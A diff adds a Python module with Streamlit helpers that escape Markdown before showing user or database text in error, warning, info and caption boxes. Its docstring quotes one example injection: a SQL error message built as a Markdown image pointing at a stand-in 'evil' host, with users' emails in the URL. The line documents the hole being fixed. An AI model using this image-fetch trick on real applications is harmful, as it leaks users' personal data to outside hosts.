@@ -1,0 +1,39 @@
+"""Show text that came from a user or the database as text: never Markdown, never HTML.
+
+Streamlit's alert boxes, captions and st.markdown interpret Markdown, so an error message built
+by `SELECT error('![x](http://evil/?'||email||')')` or a saved-query description would make every
+viewer's browser fetch a remote image (issue #12, finding 3). Everything here escapes first.
+"""
+
+from __future__ import annotations
+
+import re
+
+import streamlit as st
+
+_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:])")
+
+
+def plain(text: object) -> str:
+    """`text` escaped so Markdown shows it literally (no links, images, emphasis or HTML)."""
+    return _MARKDOWN.sub(r"\\\1", str(text if text is not None else "")).replace("\n", "  \n")
+
+
+def error_text(text: object, icon: str = ":material/error:") -> None:
+    st.error(plain(text), icon=icon)
+
+
+def warning_text(text: object, icon: str = ":material/warning:") -> None:
+    st.warning(plain(text), icon=icon)
+
+
+def info_text(text: object, icon: str | None = None) -> None:
+    st.info(plain(text), icon=icon)
+
+
+def success_text(text: object, icon: str = ":material/check:") -> None:
+    st.success(plain(text), icon=icon)
+
+
+def caption_text(text: object) -> None:
+    st.caption(plain(text))
